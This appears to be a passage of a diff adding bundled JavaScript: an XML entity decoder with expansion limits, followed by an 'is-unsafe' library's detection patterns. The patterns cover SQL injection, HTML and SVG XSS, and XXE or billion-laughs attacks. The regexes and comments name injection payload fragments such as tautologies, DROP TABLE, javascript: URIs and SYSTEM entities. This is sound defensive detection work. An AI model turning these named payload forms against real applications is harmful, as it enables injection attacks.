+   * @param {((name: string, value: string) => 'allow'|'block'|'throw')|null} [options.onExternalEntity=null]
+   *   Hook called when an external entity is registered via `setExternalEntities()` or
+   *   `addExternalEntity()`. Return `ENTITY_ACTION.ALLOW` to accept the entity,
+   *   `ENTITY_ACTION.BLOCK` to silently skip it, or `ENTITY_ACTION.THROW` to abort with an error.
+   * @param {((name: string, value: string) => 'allow'|'block'|'throw')|null} [options.onInputEntity=null]
+   *   Hook called when an input entity is registered via `addInputEntities()`. Return
+   *   `ENTITY_ACTION.ALLOW` to accept, `ENTITY_ACTION.BLOCK` to silently skip, or
+   *   `ENTITY_ACTION.THROW` to abort with an error.
+   */
+  constructor(options = {}) {
+    this._limit = options.limit || {};
+    this._maxTotalExpansions = this._limit.maxTotalExpansions || 0;
+    this._maxExpandedLength = this._limit.maxExpandedLength || 0;
+    this._postCheck = typeof options.postCheck === 'function' ? options.postCheck : r => r;
+    this._limitTiers = parseLimitTiers(this._limit.applyLimitsTo ?? LIMIT_TIER_EXTERNAL);
+    this._numericAllowed = options.numericAllowed ?? true;
+    // Base map: DEFAULT_XML_ENTITIES + user-supplied extras. Immutable after construction.
+    this._baseMap = mergeEntityMaps(XML, options.namedEntities || null);
+
+    // Persistent external entities — survive across documents.
+    // Stored as a separate map so reset() never touches them.
+    /** @type {Record<string, string>} */
+    this._externalMap = Object.create(null);
+
+    // Input / runtime entities — current document only, wiped on reset().
+    /** @type {Record<string, string>} */
+    this._inputMap = Object.create(null);
+
+    // Per-document counters
+    this._totalExpansions = 0;
+    this._expandedLength = 0;
+
+    // --- New: remove / leave sets ---
+    /** @type {Set<string>} */
+    this._removeSet = new Set(options.remove && Array.isArray(options.remove) ? options.remove : []);
+    /** @type {Set<string>} */
+    this._leaveSet = new Set(options.leave && Array.isArray(options.leave) ? options.leave : []);
+
+    // --- NCR config (parsed into flat fields for hot-path speed) ---
+    const ncrCfg = parseNCRConfig(options.ncr);
+    this._ncrXmlVersion = ncrCfg.xmlVersion;
+    this._ncrOnLevel = ncrCfg.onLevel;
+    this._ncrNullLevel = ncrCfg.nullLevel;
+
+    // --- Registration hooks ---
+    /** @type {((name: string, value: string) => 'allow'|'block'|'throw')|null} */
+    this._onExternalEntity = typeof options.onExternalEntity === 'function'
+      ? options.onExternalEntity
+      : null;
+    /** @type {((name: string, value: string) => 'allow'|'block'|'throw')|null} */
+    this._onInputEntity = typeof options.onInputEntity === 'function'
+      ? options.onInputEntity
+      : null;
+  }
+
+  // -------------------------------------------------------------------------
+  // Private: registration hook dispatch
+  // -------------------------------------------------------------------------
+
+  /**
+   * Invoke a registration hook for a single entity name/value pair.
+   * Returns true when the entity should be accepted, false when it should be
+   * silently skipped (BLOCK), and throws when the hook returns THROW.
+   *
+   * @param {((name: string, value: string) => 'allow'|'block'|'throw')|null} hook
+   * @param {string} name
+   * @param {string} value
+   * @param {string} context  — used in error messages ('external' | 'input')
+   * @returns {boolean}  true = accept, false = skip
+   */
+  _applyRegistrationHook(hook, name, value, context) {
+    if (!hook) return true; // no hook → always accept
+    const action = hook(name, value);
+    if (action === ENTITY_ACTION.BLOCK) return false;
+    if (action === ENTITY_ACTION.THROW) {
+      throw new Error(
+        `[EntityDecoder] Registration of ${context} entity "&${name};" was rejected by hook`
+      );
+    }
+    return true; // ALLOW or any unknown return value → accept
+  }
+
+  // -------------------------------------------------------------------------
+  // Persistent external entity registration
+  // -------------------------------------------------------------------------
+
+  /**
+   * Replace the full set of persistent external entities.
+   * All keys are validated — throws on invalid characters.
+   * If `onExternalEntity` is set, it is called once per entry; entries that
+   * return `ENTITY_ACTION.BLOCK` are silently omitted, `ENTITY_ACTION.THROW`
+   * aborts the whole call.
+   * @param {Record<string, string | { regex?: RegExp, val: string }>} map
+   */
+  setExternalEntities(map) {
+    if (map) {
+      for (const key of Object.keys(map)) {
+        EntityDecoder_validateEntityName(key);
+      }
+    }
+    if (!this._onExternalEntity) {
+      this._externalMap = mergeEntityMaps(map);
+      return;
+    }
+    // Hook present — resolve values first, then filter
+    const flat = mergeEntityMaps(map);
+    const filtered = Object.create(null);
+    for (const [name, value] of Object.entries(flat)) {
+      if (this._applyRegistrationHook(this._onExternalEntity, name, value, 'external')) {
+        filtered[name] = value;
+      }
+    }
+    this._externalMap = filtered;
+  }
+
+  /**
+   * Add a single persistent external entity.
+   * If `onExternalEntity` is set it is called before the entity is stored;
+   * `ENTITY_ACTION.BLOCK` silently skips storage, `ENTITY_ACTION.THROW` raises.
+   * @param {string} key
+   * @param {string} value
+   */
+  addExternalEntity(key, value) {
+    EntityDecoder_validateEntityName(key);
+    if (typeof value === 'string' && value.indexOf('&') === -1) {
+      if (this._applyRegistrationHook(this._onExternalEntity, key, value, 'external')) {
+        this._externalMap[key] = value;
+      }
+    }
+  }
+
+  // -------------------------------------------------------------------------
+  // Input / runtime entity registration (per document)
+  // -------------------------------------------------------------------------
+
+  /**
+   * Inject DOCTYPE entities for the current document.
+   * Also resets per-document expansion counters.
+   * If `onInputEntity` is set it is called once per entry; entries returning
+   * `ENTITY_ACTION.BLOCK` are silently omitted, `ENTITY_ACTION.THROW` aborts.
+   * @param {Record<string, string | { regx?: RegExp, regex?: RegExp, val: string }>} map
+   */
+  addInputEntities(map) {
+    this._totalExpansions = 0;
+    this._expandedLength = 0;
+    if (!this._onInputEntity) {
+      this._inputMap = mergeEntityMaps(map);
+      return;
+    }
+    const flat = mergeEntityMaps(map);
+    const filtered = Object.create(null);
+    for (const [name, value] of Object.entries(flat)) {
+      if (this._applyRegistrationHook(this._onInputEntity, name, value, 'input')) {
+        filtered[name] = value;
+      }
+    }
+    this._inputMap = filtered;
+  }
+
+  // -------------------------------------------------------------------------
+  // Per-document reset
+  // -------------------------------------------------------------------------
+
+  /**
+   * Wipe input/runtime entities and reset counters.
+   * Call this before processing each new document.
+   * @returns {this}
+   */
+  reset() {
+    this._inputMap = Object.create(null);
+    this._totalExpansions = 0;
+    this._expandedLength = 0;
+    return this;
+  }
+
+  // -------------------------------------------------------------------------
+  // XML version (can be set after construction, e.g. once parser reads <?xml?>)
+  // -------------------------------------------------------------------------
+
+  /**
+   * Update the XML version used for NCR classification.
+   * Call this as soon as the document's `<?xml version="...">` declaration is parsed.
+   * @param {1.0|1.1|number} version
+   */
+  setXmlVersion(version) {
+    this._ncrXmlVersion = version === 1.1 ? 1.1 : 1.0;
+  }
+
+  // -------------------------------------------------------------------------
+  // Primary API
+  // -------------------------------------------------------------------------
+
+  /**
+   * Replace all entity references in `str` in a single pass.
+   *
+   * @param {string} str
+   * @returns {string}
+   */
+  decode(str) {
+    if (typeof str !== 'string' || str.length === 0) return str;
+    //TODO: check if needed
+    if (str.indexOf('&') === -1) return str; // fast path — no entities at all
+
+    const original = str;
+    const chunks = [];
+    const len = str.length;
+    let last = 0; // start of next unprocessed literal chunk
+    let i = 0;
+
+    const limitExpansions = this._maxTotalExpansions > 0;
+    const limitLength = this._maxExpandedLength > 0;
+    const checkLimits = limitExpansions || limitLength;
+
+    while (i < len) {
+      // Scan forward to next '&'
+      if (str.charCodeAt(i) !== 38 /* '&' */) { i++; continue; }
+
+      // --- Found '&' at position i ---
+
+      // Scan forward to ';'
+      let j = i + 1;
+      while (j < len && str.charCodeAt(j) !== 59 /* ';' */ && (j - i) <= 32) j++;
+
+      if (j >= len || str.charCodeAt(j) !== 59) {
+        // No closing ';' within window — treat '&' as literal
+        i++;
+        continue;
+      }
+
+      // Raw token between '&' and ';' (exclusive)
+      const token = str.slice(i + 1, j);
+      if (token.length === 0) { i++; continue; }
+
+      let replacement;
+      let tier; // which limit tier this entity belongs to
+
+      if (this._removeSet.has(token)) {
+        // Remove entity: replace with empty string
+        replacement = '';
+        // If entity was unknown (replacement undefined), we still need a tier for limits.
+        // Treat as external tier because it's user-directed removal of an unknown reference.
+        if (tier === undefined) {
+          tier = LIMIT_TIER_EXTERNAL;
+        }
+      } else if (this._leaveSet.has(token)) {
+        // Do not replace — keep original &token; as literal
+        i++;
+        continue;
+      } else if (token.charCodeAt(0) === 35 /* '#' */) {
+        // ---- Numeric / NCR reference ----
+        // NCR classification always runs first — prohibited codepoints must be
+        // caught regardless of numericAllowed.
+        const ncrResult = this._resolveNCR(token);
+        if (ncrResult === undefined) {
+          // 'leave' action — keep original &token; as-is
+          i++;
+          continue;
+        }
+        replacement = ncrResult; // '' for remove, char string for allow
+        tier = LIMIT_TIER_BASE;
+      } else {
+        // ---- Named reference ----
+        const resolved = this._resolveName(token);
+        replacement = resolved?.value;
+        tier = resolved?.tier;
+      }
+
+      if (replacement === undefined) {
+        // Unknown entity — leave as-is, advance past '&' only
+        i++;
+        continue;
+      }
+
+      // Flush literal chunk before this entity
+      if (i > last) chunks.push(str.slice(last, i));
+      chunks.push(replacement);
+      last = j + 1; // skip past ';'
+      i = last;
+
+      // Apply expansion limits only if this tier is being tracked
+      if (checkLimits && this._tierCounts(tier)) {
+        if (limitExpansions) {
+          this._totalExpansions++;
+          if (this._totalExpansions > this._maxTotalExpansions) {
+            throw new Error(
+              `[EntityReplacer] Entity expansion count limit exceeded: ` +
+              `${this._totalExpansions} > ${this._maxTotalExpansions}`
+            );
+          }
+        }
+        if (limitLength) {
+          // delta: replacement.length minus the raw &token; length (token.length + 2 for '&' and ';')
+          const delta = replacement.length - (token.length + 2);
+          if (delta > 0) {
+            this._expandedLength += delta;
+            if (this._expandedLength > this._maxExpandedLength) {
+              throw new Error(
+                `[EntityReplacer] Expanded content length limit exceeded: ` +
+                `${this._expandedLength} > ${this._maxExpandedLength}`
+              );
+            }
+          }
+        }
+      }
+    }
+
+    // Flush trailing literal
+    if (last < len) chunks.push(str.slice(last));
+
+    // If nothing was replaced, chunks is empty — return original
+    const result = chunks.length === 0 ? str : chunks.join('');
+
+    return this._postCheck(result, original);
+  }
+
+  // -------------------------------------------------------------------------
+  // Private: limit tier check
+  // -------------------------------------------------------------------------
+
+  /**
+   * Returns true if a resolved entity of the given tier should count
+   * against the expansion/length limits.
+   * @param {string} tier  — LIMIT_TIER_EXTERNAL | LIMIT_TIER_BASE
+   * @returns {boolean}
+   */
+  _tierCounts(tier) {
+    if (this._limitTiers.has(LIMIT_TIER_ALL)) return true;
+    return this._limitTiers.has(tier);
+  }
+
+  // -------------------------------------------------------------------------
+  // Private: entity resolution
+  // -------------------------------------------------------------------------
+
+  /**
+   * Resolve a named entity token (without & and ;).
+   * Priority: inputMap > externalMap > baseMap
+   * Returns the resolved value tagged with its limit tier.
+   *
+   * @param {string} name
+   * @returns {{ value: string, tier: string }|undefined}
+   */
+  _resolveName(name) {
+    // input and external both count as 'external' tier for limit purposes —
+    // they are injected at runtime and are the untrusted surface.
+    if (name in this._inputMap) return { value: this._inputMap[name], tier: LIMIT_TIER_EXTERNAL };
+    if (name in this._externalMap) return { value: this._externalMap[name], tier: LIMIT_TIER_EXTERNAL };
+    if (name in this._baseMap) return { value: this._baseMap[name], tier: LIMIT_TIER_BASE };
+    return undefined;
+  }
+
+  /**
+   * Classify a codepoint and return the minimum action level that must be applied.
+   * Returns -1 when no minimum is imposed (normal allow path).
+   *
+   * Ranges checked (in priority order):
+   *   1. U+0000            — null, governed by nullNCR (always ≥ remove)
+   *   2. U+D800–U+DFFF     — surrogates, always prohibited (min: remove)
+   *   3. U+0001–U+001F \ {0x09,0x0A,0x0D}  — XML 1.0 restricted C0 (min: remove)
+   *      (skipped in XML 1.1 — C0 controls are allowed when written as NCRs)
+   *
+   * @param {number} cp  — codepoint
+   * @returns {number}   — minimum NCR_LEVEL value, or -1 for no restriction
+   */
+  _classifyNCR(cp) {
+    // 1. Null
+    if (cp === 0) return this._ncrNullLevel;
+
+    // 2. Surrogates — always prohibited, minimum 'remove'
+    if (cp >= 0xD800 && cp <= 0xDFFF) return NCR_LEVEL.remove;
+
+    // 3. XML 1.0 restricted C0 controls
+    if (this._ncrXmlVersion === 1.0) {
+      if (cp >= 0x01 && cp <= 0x1F && !XML10_ALLOWED_C0.has(cp)) return NCR_LEVEL.remove;
+    }
+
+    return -1; // no restriction
+  }
+
+  /**
+   * Execute a resolved NCR action.
+   *
+   * @param {number} action   — NCR_LEVEL value
+   * @param {string} token    — raw token (e.g. '#38') for error messages
+   * @param {number} cp       — codepoint, used only for error messages
+   * @returns {string|undefined}
+   *   - decoded character string  → 'allow'
+   *   - ''                        → 'remove'
+   *   - undefined                 → 'leave' (caller must skip past '&' only)
+   *   - throws Error              → 'throw'
+   */
+  _applyNCRAction(action, token, cp) {
+    switch (action) {
+      case NCR_LEVEL.allow: return String.fromCodePoint(cp);
+      case NCR_LEVEL.remove: return '';
+      case NCR_LEVEL.leave: return undefined; // signal: keep literal
+      case NCR_LEVEL.throw:
+        throw new Error(
+          `[EntityDecoder] Prohibited numeric character reference ` +
+          `&${token}; (U+${cp.toString(16).toUpperCase().padStart(4, '0')})`
+        );
+      default: return String.fromCodePoint(cp);
+    }
+  }
+
+  /**
+   * Full NCR resolution pipeline for a numeric token.
+   *
+   * Steps:
+   *   1. Parse the codepoint (decimal or hex).
+   *   2. Validate the raw codepoint range (NaN, <0, >0x10FFFF).
+   *   3. If numericAllowed is false and no minimum restriction applies → leave as-is.
+   *   4. Classify the codepoint to find the minimum required action level.
+   *   5. Resolve effective action = max(onNCR, minimum).
+   *   6. Apply and return.
+   *
+   * @param {string} token  — e.g. '#38', '#x26', '#X26'
+   * @returns {string|undefined}
+   *   - string (incl. '')  — replacement ('' = remove)
+   *   - undefined          — leave original &token; as-is
+   */
+  _resolveNCR(token) {
+    // Step 1: parse codepoint
+    const second = token.charCodeAt(1);
+    let cp;
+    if (second === 120 /* x */ || second === 88 /* X */) {
+      cp = parseInt(token.slice(2), 16);
+    } else {
+      cp = parseInt(token.slice(1), 10);
+    }
+
+    // Step 2: out-of-range → leave as-is unconditionally
+    if (Number.isNaN(cp) || cp < 0 || cp > 0x10FFFF) return undefined;
+
+    // Step 3: classify to get minimum action level
+    const minimum = this._classifyNCR(cp);
+
+    // Step 4: if numericAllowed is false and no hard minimum → leave
+    if (!this._numericAllowed && minimum < NCR_LEVEL.remove) return undefined;
+
+    // Step 5: effective action = max(configured onNCR, range minimum)
+    const effective = minimum === -1
+      ? this._ncrOnLevel
+      : Math.max(this._ncrOnLevel, minimum);
+
+    // Step 6: apply
+    return this._applyNCRAction(effective, token, cp);
+  }
+}
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/sql.js
+/**
+ * SQL context patterns — high-precision rules only.
+ *
+ * These rules have very low false-positive risk and are safe to apply to
+ * general user text (names, descriptions, search queries, etc.).
+ * All patterns are ReDoS-safe — unlike the `sql-injection` npm package
+ * which has an active CVE on its own detection regexes.
+ *
+ * For exhaustive coverage including noisier heuristics (comment sequences,
+ * hex literals, stacked queries with semicolons), use 'SQL-STRICT' instead.
+ * Apply 'SQL-STRICT' only to strings that are specifically SQL fragments,
+ * not to general free-text fields.
+ */
+
+const SQL_PATTERNS = [
+  {
+    id: 'sql-block-comment-open',
+    description: 'SQL block comment open: /* ... */ — unusual in legitimate user text',
+    pattern: /\/\*/,
+  },
+  {
+    id: 'sql-union-select',
+    description: 'UNION SELECT — most common SQL injection aggregation attack',
+    pattern: /\bUNION\s{1,20}(?:ALL\s{1,20})?SELECT\b/i,
+  },
+  {
+    id: 'sql-drop-table',
+    description: 'DROP TABLE — destructive DDL injection',
+    pattern: /\bDROP\s{1,20}TABLE\b/i,
+  },
+  {
+    id: 'sql-drop-database',
+    description: 'DROP DATABASE — destructive DDL injection',
+    pattern: /\bDROP\s{1,20}DATABASE\b/i,
+  },
+  {
+    id: 'sql-insert-into',
+    description: 'INSERT INTO — data injection',
+    pattern: /\bINSERT\s{1,20}INTO\b/i,
+  },
+  {
+    id: 'sql-delete-from',
+    description: 'DELETE FROM — data deletion injection',
+    pattern: /\bDELETE\s{1,20}FROM\b/i,
+  },
+  {
+    id: 'sql-update-set',
+    description: 'UPDATE ... SET — data modification injection',
+    // Allows arbitrary content between UPDATE and SET (table name, alias, etc.)
+    pattern: /\bUPDATE\b[\s\S]{1,60}\bSET\b/i,
+  },
+  {
+    id: 'sql-exec-xp',
+    description: 'EXEC xp_ — MSSQL extended stored procedure execution',
+    pattern: /\bEXEC(?:UTE)?\s{1,20}xp_/i,
+  },
+  {
+    id: 'sql-tautology-string',
+    description: "Classic string tautology: ' OR '1'='1 or \" OR \"1\"=\"1\"",
+    // Last quote is optional — injection may truncate it: ' OR '1'='1--
+    pattern: /'\s{0,10}OR\s{0,10}'[^']{0,20}'\s*=\s*'[^']{0,20}/i,
+  },
+  {
+    id: 'sql-tautology-numeric',
+    description: 'Numeric tautology: OR 1=1',
+    pattern: /\bOR\s{1,10}1\s*=\s*1\b/i,
+  },
+  {
+    id: 'sql-always-true-zero',
+    description: 'Numeric tautology: OR 0=0',
+    pattern: /\bOR\s{1,10}0\s*=\s*0\b/i,
+  },
+  {
+    id: 'sql-sleep-benchmark',
+    description: 'Time-based blind injection: SLEEP() or BENCHMARK()',
+    pattern: /\b(?:SLEEP|BENCHMARK)\s*\(/i,
+  },
+  {
+    id: 'sql-waitfor-delay',
+    description: 'MSSQL time-based blind injection: WAITFOR DELAY',
+    pattern: /\bWAITFOR\s{1,20}DELAY\b/i,
+  },
+  {
+    id: 'sql-char-function',
+    description: 'CHAR() function — used to obfuscate injected strings',
+    pattern: /\bCHAR\s*\(\s*\d{1,3}/i,
+  },
+  {
+    id: 'sql-information-schema',
+    description: 'INFORMATION_SCHEMA — reconnaissance query for table/column enumeration',
+    pattern: /\bINFORMATION_SCHEMA\b/i,
+  },
+];
+
+/* harmony default export */ const sql = (SQL_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/sql-strict.js
+/**
+ * SQL-STRICT context patterns.
+ *
+ * Extends the base 'SQL' context with three additional rules that are
+ * effective at detecting real injections but carry a higher false-positive
+ * risk on general free-text input.
+ *
+ * Use 'SQL-STRICT' when:
+ *   - The string is specifically a SQL fragment or database identifier
+ *   - You control the input domain (e.g. a dedicated SQL search field)
+ *   - You can tolerate occasional false positives in exchange for broader coverage
+ *
+ * Use 'SQL' (not STRICT) when:
+ *   - The field is general user text (names, descriptions, comments)
+ *   - False positives would block legitimate content (e.g. "see note -- above")
+ *
+ * Rules moved here from 'SQL' due to false-positive risk:
+ *
+ *   sql-line-comment   — "--" fires on "see note -- above", "value--", CSS var(--primary)
+ *   sql-stacked-query  — "; SELECT" fires on legitimate prose with semicolons + SQL words
+ *   sql-hex-encoding   — "0xDEAD" fires on hex values in technical docs and log output
+ */
+
+
+
+const SQL_STRICT_EXTRA = [
+  {
+    id: 'sql-line-comment',
+    description: 'SQL line comment: -- followed by whitespace or end of string',
+    pattern: /--(?:\s|$)/,
+  },
+  {
+    id: 'sql-stacked-query',
+    description: 'Stacked queries: semicolon immediately followed by a SQL keyword',
+    pattern: /;\s{0,10}(?:SELECT|INSERT|UPDATE|DELETE|DROP|CREATE|ALTER|EXEC)\b/i,
+  },
+  {
+    id: 'sql-hex-encoding',
+    description: 'Hex-encoded string injection: 0x41414141 style (MySQL)',
+    pattern: /\b0x[0-9a-f]{4,}/i,
+  },
+];
+
+// SQL-STRICT = all base SQL rules + the three noisy extras
+const SQL_STRICT_PATTERNS = [...sql, ...SQL_STRICT_EXTRA];
+
+/* harmony default export */ const sql_strict = (SQL_STRICT_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/util/decode-entities.js
+/**
+ * Decode the HTML character references that matter for markup-context
+ * detection.
+ *
+ * Browsers decode character references in attribute values before they
+ * interpret a URL, so `javascript&#58;alert(1)` in an href is the
+ * `javascript:` scheme. The HTML/XML/SVG rules match literal characters, so
+ * without this step such payloads slip through.
+ *
+ * Deliberately NOT a full entity decoder. It decodes only:
+ *   - decimal refs  &#58;  &#058;  &#00000058;  &#58   (any leading zeros,
+ *                   trailing ; optional — browsers accept both)
+ *   - hex refs      &#x3a; &#X3A; &#x0000003a; &#x3a   (same)
+ *   - named refs    &colon;  &Tab;  &NewLine;
+ *       Named refs are CASE-SENSITIVE and REQUIRE the trailing ';', exactly
+ *       like a browser (so `&COLON;` and `&colon` are not decoded).
+ *       &Tab; / &NewLine; matter because the URL parser strips tab/newline,
+ *       so `java&Tab;script:` is still a javascript: URL.
+ *
+ * It does NOT decode &amp; (single pass only), so double-encoded text such as
+ * "&amp;lt;script&amp;gt;" stays literal — a browser renders that as text.
+ *
+ * All quantifiers are bounded; no ReDoS risk.
+ *
+ * @param {string} input
+ * @returns {string}
+ */
+const NAMED = Object.freeze({
+  colon: ':',
+  Tab: '\t',
+  NewLine: '\n',
+});
+
+const ENTITY_RE =
+  /&(?:#[xX]0*([0-9a-fA-F]{1,6});?|#0*([0-9]{1,7});?|([a-zA-Z][a-zA-Z0-9]{1,15});)/g;
+
+function decodeEntities(input) {
+  if (input.indexOf('&') === -1) return input;
+
+  return input.replace(ENTITY_RE, (match, hex, dec, name) => {
+    if (name !== undefined) {
+      return Object.prototype.hasOwnProperty.call(NAMED, name) ? NAMED[name] : match;
+    }
+    const cp = hex !== undefined ? parseInt(hex, 16) : parseInt(dec, 10);
+    if (!Number.isFinite(cp) || cp > 0x10ffff) return match;
+    return String.fromCodePoint(cp);
+  });
+}
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/html.js
+/**
+ * HTML context patterns.
+ *
+ * Detects XSS vectors that are dangerous when a string ends up rendered as HTML.
+ * All patterns use bounded quantifiers to ensure linear-time matching (ReDoS-safe).
+ *
+ * Each entry is { pattern: RegExp, id: string, description: string }
+ * so callers can inspect which rule fired if they need to.
+ */
+
+const HTML_PATTERNS = [
+  {
+    id: 'html-script-open',
+    description: '<script opening tag',
+    pattern: /<script[\s>/]/i,
+  },
+  {
+    id: 'html-script-close',
+    description: '</script closing tag',
+    pattern: /<\/script[\s>]/i,
+  },
+  {
+    id: 'html-javascript-protocol',
+    description: 'javascript: URI scheme (with optional whitespace/encoding)',
+    // Handles j&#x61;vascript:, j\u0061vascript:, and whitespace variants
+    pattern: /j[\t\n\r ]*a[\t\n\r ]*v[\t\n\r ]*a[\t\n\r ]*s[\t\n\r ]*c[\t\n\r ]*r[\t\n\r ]*i[\t\n\r ]*p[\t\n\r ]*t[\t\n\r ]*:/i,
+  },
+  {
+    id: 'html-vbscript-protocol',
+    description: 'vbscript: URI scheme',
+    pattern: /vbscript[\t\n\r ]*:/i,
+  },
+  {
+    id: 'html-data-html',
+    description: 'data:text/html URI — can execute scripts in browsers',
+    pattern: /data[\t\n\r ]*:[\t\n\r ]*text\/html/i,
+  },
+  {
+    id: 'html-data-xhtml',
+    description: 'data:application/xhtml+xml URI',
+    pattern: /data[\t\n\r ]*:[\t\n\r ]*application\/xhtml/i,
+  },
+  {
+    id: 'html-data-svg',
+    description: 'data:image/svg+xml URI — can execute scripts',
+    pattern: /data[\t\n\r ]*:[\t\n\r ]*image\/svg\+xml/i,
+  },
+  {
+    id: 'html-inline-event-handler',
+    description: 'Inline event handler attributes: onclick=, onerror=, onload=, etc.',
+    // \bon ensures we match a word boundary so "phonetic=" is not caught
+    pattern: /\bon\w{1,30}\s*=/i,
+  },
+  {
+    id: 'html-entity-obfuscated-script',
+    description: 'HTML-entity-encoded <script (e.g. &#x3C;script or &lt;script)',
+    // Entities include optional trailing semicolon: &#x3C; or &#x3C (both valid in HTML5)
+    pattern: /(?:&#x0*3[Cc];?|&#0*60;?|&lt;)\s*script/i,
+  },
+  {
+    id: 'html-entity-obfuscated-javascript',
+    description: 'HTML-entity-encoded javascript: (partial — catches common &#106; or &#x6a; for "j")',
+    pattern: /(?:&#x0*6[Aa];?|&#0*106;?)\s*(?:&#x0*61;?|a)[\s\S]{0,80}script\s*:/i,
+  },
+  {
+    id: 'html-style-expression',
+    description: 'CSS expression() — IE-era code execution in style attributes',
+    pattern: /style[\s\S]{0,20}expression\s*\(/i,
+  },
+  {
+    id: 'html-object-embed',
+    description: '<object or <embed tags that can load active content',
+    pattern: /<(?:object|embed)[\s>/]/i,
+  },
+  {
+    id: 'html-base-tag',
+    description: '<base href= — can hijack all relative URLs on a page',
+    pattern: /<base[\s>]/i,
+  },
+  {
+    id: 'html-meta-refresh',
+    description: '<meta http-equiv="refresh" — can redirect users',
+    pattern: /<meta[\s\S]{0,40}http-equiv[\s\S]{0,20}refresh/i,
+  },
+  {
+    id: 'html-srcdoc',
+    description: 'srcdoc= attribute on iframes — embeds HTML that can run scripts',
+    pattern: /srcdoc\s*=/i,
+  },
+  {
+    id: 'html-iframe',
+    description: '<iframe tag',
+    pattern: /<iframe[\s>/]/i,
+  },
+  {
+    id: 'html-form',
+    description: '<form tag — can be used for phishing / credential harvesting injection',
+    pattern: /<form[\s>/]/i,
+  },
+];
+
+/* harmony default export */ const html = (HTML_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/xml.js
+/**
+ * XML context patterns.
+ *
+ * Detects injection vectors that are specifically dangerous when a string
+ * is inserted into an XML document (not HTML rendering context).
+ *
+ * Key distinction from HTML: these patterns target parser-level attacks —
+ * things that can confuse or subvert an XML parser, trigger external entity
+ * resolution, or inject DTD content. HTML rendering concerns (XSS) belong
+ * in the HTML context.
+ */
+
+const XML_PATTERNS = [
+  {
+    id: 'xml-cdata-injection',
+    description: 'CDATA section injection: <![CDATA[ breaks out of text node context',
+    pattern: /<!\[CDATA\[/i,
+  },
+  {
+    id: 'xml-cdata-close',
+    description: 'CDATA close sequence: ]]> can terminate an enclosing CDATA section',
+    pattern: /\]\]>/,
+  },
+  {
+    id: 'xml-processing-instruction',
+    description: 'XML processing instruction: <?xml-stylesheet or <?php etc.',
+    pattern: /<\?(?:xml[\- ]|php|asp)/i,
+  },
+  {
+    id: 'xml-doctype-injection',
+    description: 'DOCTYPE declaration embedded in content — can define entities',
+    // Match <!DOCTYPE followed by end-of-string, whitespace, or [ (internal subset)
+    pattern: /<!DOCTYPE(?:[\s[]|$)/i,
+  },
+  {
+    id: 'xml-entity-system',
+    description: 'SYSTEM keyword — used in external entity declarations (XXE)',
+    pattern: /\bSYSTEM\s+["']/i,
+  },
+  {
+    id: 'xml-entity-public',
+    description: 'PUBLIC keyword — used in external entity declarations (XXE)',
+    pattern: /\bPUBLIC\s+["']/i,
+  },
+  {
+    id: 'xml-entity-declaration',
+    description: '<!ENTITY declaration — defines entities, potential XXE or entity expansion',
+    pattern: /<!ENTITY[\s%]/i,
+  },
+  {
+    id: 'xml-billion-laughs',
+    description: 'Entity reference chaining / billion laughs: repeated &eX; style references',
+    // Heuristic: 3+ consecutive entity refs suggests expansion attack
+    pattern: /(?:&\w{1,20};){3,}/,
+  },
+  {
+    id: 'xml-namespace-confusion',
+    description: 'xmlns: attribute injection — can redefine namespaces to confuse parsers',
+    // pattern: /\bxmlns\s*(?::\w{1,40})?\s*=/i,
+    pattern: /\bxmlns(?::\w{1,40})?\s*=/i,
+  },
+  {
+    id: 'xml-comment-injection',
+    description: '<!-- comment injection — can hide content from some parsers',
+    pattern: /<!--/,
+  },
+  {
+    id: 'xml-comment-close',
+    description: '--> closes an enclosing XML comment',
+    pattern: /-->/,
+  },
+  {
+    id: 'xml-pi-close',
+    description: '?> closes an enclosing processing instruction',
+    pattern: /\?>/,
+  },
+];
+
+/* harmony default export */ const xml = (XML_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/svg.js
+/**
+ * SVG context patterns.
+ *
+ * SVG is XML-based but renders in browsers, giving it a unique attack surface
+ * that combines XML parser behaviour with browser rendering and JavaScript execution.
+ *
+ * Many of these vectors bypass HTML sanitizers that don't understand SVG semantics
+ * (DOMPurify has documented bypass vulnerabilities specifically in SVG/XML context).
+ */
+
+const SVG_PATTERNS = [
+  {
+    id: 'svg-script-element',
+    description: '<script element inside SVG executes JavaScript',
+    pattern: /<script[\s>/]/i,
+  },
+  {
+    id: 'svg-xlink-href-javascript',
+    description: 'xlink:href with javascript: — classic SVG XSS via <a> or <use>',
+    pattern: /xlink\s*:\s*href\s*=\s*["']?\s*javascript\s*:/i,
+  },
+  {
+    id: 'svg-href-javascript',
+    description: 'href= with javascript: in SVG context (<a>, <animate>, etc.)',
+    pattern: /href\s*=\s*["']?\s*javascript\s*:/i,
+  },
+  {
+    id: 'svg-foreignobject',
+    description: '<foreignObject embeds HTML inside SVG — can execute scripts',
+    pattern: /<foreignObject[\s>/]/i,
+  },
+  {
+    id: 'svg-use-external',
+    description: '<use xlink:href or href pointing to external resource (non-fragment URL)',
+    // Match <use with href= where the value starts with a non-# character (external URL)
+    // [\"'][^#] catches quoted values not starting with #; [^\"'#\s>] catches unquoted
+    pattern: /<use[\s\S]{0,60}(?:xlink\s*:\s*)?href\s*=\s*(?:["'][^#]|[^"'#\s>])/i,
+  },
+  {
+    id: 'svg-animate-href',
+    description: '<animate attributeName="href" — can dynamically change href to javascript:',
+    pattern: /<animate[\s\S]{0,80}attributeName\s*=\s*["'][\s]*href["']/i,
+  },
+  {
+    id: 'svg-animate-xlinkhref',
+    description: '<animate attributeName="xlink:href"',
+    pattern: /<animate[\s\S]{0,80}attributeName\s*=\s*["'][\s]*xlink\s*:\s*href["']/i,
+  },
+  {
+    id: 'svg-set-javascript',
+    description: '<set to="javascript:..." — sets an attribute to a javascript: URI',
+    pattern: /<set[\s\S]{0,80}to\s*=\s*["']?\s*javascript\s*:/i,
+  },
+  {
+    id: 'svg-event-handler',
+    description: 'SVG-specific event handler attributes: onload=, onerror=, onactivate=, etc.',
+    pattern: /\bon(?:load|error|activate|begin|end|repeat|focus|blur|click|mouse\w{1,20}|key\w{1,20})\s*=/i,
+  },
+  {
+    id: 'svg-handler-generic',
